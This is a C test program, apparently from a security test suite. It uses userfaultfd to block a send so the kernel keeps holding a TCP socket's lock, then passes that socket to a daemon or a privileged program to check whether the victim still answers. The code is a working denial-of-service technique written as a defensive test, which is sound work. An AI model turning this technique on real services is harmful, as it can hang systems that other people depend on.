/*
 * lock WHAT: an attacker blocks a send inside the kernel, which meanwhile holds the lock of a TCP socket. The attacker
 * passes the socket to a victim under the shim. Prints "well" if the victim answers. Needs root: attacker and victim
 * are different users, and userfaultfd(2) provides the page that never arrives. An unprivileged attacker would use
 * FUSE.
 *
 *   message       the victim is a daemon, which receives the socket by recvmsg(2) and recvmmsg(2), by name and by number
 *   exec PROGRAM  the victim is a program with more rights than the attacker, which starts with the socket open as 5;
 *                 its output precedes "well"
 *
 * Exit status 77: the test cannot block a send here, or cannot become another user.
 */
#include "probe.h"

#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <time.h>

enum { ATTACKER = 12346, ANSWER_WITHIN = 10000 };

static int connection[2];
static char *page;

static void *send_for_ever(void *unused)
{
    raw(SYS_sendto, connection[0], (long)page, 4096, MSG_NOSIGNAL, 0, 0);
    return unused;
}

/* Returns whether the thread waits in the kernel for the page, with the lock held. */
static int waits(pid_t thread)
{
    char path[64], line[64] = "";
    snprintf(path, sizeof path, "/proc/self/task/%d/syscall", thread);
    FILE *file = fopen(path, "re");
    long number = -1;
    if (file != NULL) {
        if (fgets(line, sizeof line, file) != NULL)
            sscanf(line, "%ld", &number);
        fclose(file);
    }
    return number == SYS_sendto;
}

static volatile pid_t sender;

static void *sends(void *unused)
{
    sender = (pid_t)raw(SYS_gettid, 0, 0, 0, 0, 0, 0);
    return send_for_ever(unused);
}

/* Holds the lock of connection[0] from here on. */
static void hold_the_lock(void)
{
    pthread_t thread;
    int faults = (int)raw(SYS_userfaultfd, O_CLOEXEC, 0, 0, 0, 0, 0);
    if (faults < 0)
        exit(77);
    struct uffdio_api api = { .api = UFFD_API };
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register area = { .range = { (unsigned long)page, 4096 }, .mode = UFFDIO_REGISTER_MODE_MISSING };
    CHECK(page != MAP_FAILED && ioctl(faults, UFFDIO_API, &api) == 0 && ioctl(faults, UFFDIO_REGISTER, &area) == 0);
    CHECK(pthread_create(&thread, NULL, sends, NULL) == 0);
    /* The fault arrives when the kernel copies from the page, under the lock. */
    struct pollfd fault = { .fd = faults, .events = POLLIN };
    CHECK(poll(&fault, 1, ANSWER_WITHIN) == 1);
    while (!waits(sender))
        usleep(1000);
}

static int answers(int victim)
{
    struct pollfd answer = { .fd = victim, .events = POLLIN };
    char byte = '?';
    CHECK(raw(SYS_sendto, victim, (long)&byte, 1, MSG_NOSIGNAL, 0, 0) == 1);
    return poll(&answer, 1, ANSWER_WITHIN) == 1 && raw(SYS_recvfrom, victim, (long)&byte, 1, 0, 0, 0) == 1 && byte == '!';
}

/* Receives two messages in each way, again and again. Answers each message without descriptors. */
static void serve(int from)
{
    for (unsigned n = 0;; n++) {
        char byte = 0;
        _Alignas(struct cmsghdr) char space[CMSG_SPACE(sizeof(int))] = { 0 };
        struct iovec iov = { &byte, 1 };
        struct mmsghdr message = {
            .msg_hdr = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space }
        };
        if (receive_message((enum receive)(n / 2 % WAYS_TO_RECEIVE), from, &message) <= 0 || byte == 0)
            _exit(0);
        if (byte == '?')
            CHECK(send(from, "!", 1, 0) == 1);
    }
}

static pid_t attacker, victim;

/* Ends the attacker first, which releases the lock. */
static void end(int status)
{
    if (attacker > 0)
        kill(attacker, SIGKILL), waitpid(attacker, NULL, 0);
    if (victim > 0)
        kill(victim, SIGKILL), waitpid(victim, NULL, 0);
    exit(status);
}

/* Root makes the two ends, so the victim sees root as the sender, which is the worst case. */
static void by_message(void)
{
    int to_victim[2], says[2];
    char byte;
    CHECK(socketpair(AF_UNIX, SOCK_SEQPACKET, 0, to_victim) == 0 && pipe(says) == 0);
    victim = fork();
    CHECK(victim >= 0);
    if (victim == 0) {
        close(says[0]), close(says[1]);
        serve(to_victim[1]);
    }
    CHECK(answers(to_victim[0]));
    attacker = fork();
    CHECK(attacker >= 0);
    if (attacker == 0) {
        connect_unseen(&connection[0], &connection[1]);
        hold_the_lock();
        if (raw(SYS_setresuid, ATTACKER, ATTACKER, ATTACKER, 0, 0, 0) != 0)
            _exit(77);
        /* The victim has answered once. With one more message, each of its ways to receive has had two. */
        CHECK(raw(SYS_sendto, to_victim[0], (long)"x", 1, 0, 0, 0) == 1);
        for (int n = 0; n < 4; n++) {
            send_descriptors(to_victim[0], &connection[0], 1);
            if (!answers(to_victim[0])) {
                fprintf(stderr, "the victim does not answer after message %d\n", n);
                _exit(1);
            }
        }
        CHECK(raw(SYS_write, says[1], (long)"w", 1, 0, 0, 0) == 1);
        for (;;)
            raw(SYS_ppoll, 0, 0, 0, 0, 0, 0);
    }
    close(says[1]);
    if (raw(SYS_read, says[0], (long)&byte, 1, 0, 0, 0) != 1) {
        int status;
        CHECK(waitpid(attacker, &status, 0) == attacker);
        attacker = 0;
        end(WIFEXITED(status) && WEXITSTATUS(status) == 77 ? 77 : 1);
    }
}

static void by_exec(char **program)
{
    struct timespec moment = { 0, 20000000 };
    int status = -1;
    connect_unseen(&connection[0], &connection[1]);
    hold_the_lock();
    attacker = 0;
    victim = fork();
    CHECK(victim >= 0);
    if (victim == 0) {
        if (setresgid(ATTACKER, ATTACKER, ATTACKER) != 0 || setresuid(ATTACKER, ATTACKER, ATTACKER) != 0)
            _exit(77);
        CHECK(dup2(connection[0], 5) == 5);
        execv(program[0], program);
        _exit(127);
    }
    for (int n = 0; waitpid(victim, &status, WNOHANG) == 0; n++) {
        if (n > ANSWER_WITHIN / 20) {
            fprintf(stderr, "the program does not start\n");
            /* Do not wait for the program: this process holds the lock, so the program ends only after this process. */
            kill(victim, SIGKILL);
            victim = 0;
            end(1);
        }
        nanosleep(&moment, NULL);
    }
    victim = 0;
    if (WIFEXITED(status) && WEXITSTATUS(status) == 77)
        end(77);
    CHECK(status == 0);
}

int main(int argc, char **argv)
{
    if (argc == 2 && strcmp(argv[1], "message") == 0)
        by_message();
    else if (argc > 2 && strcmp(argv[1], "exec") == 0)
        by_exec(argv + 2);
    else
        return 2;
    printf("well\n");
    fflush(stdout);
    end(0);
}
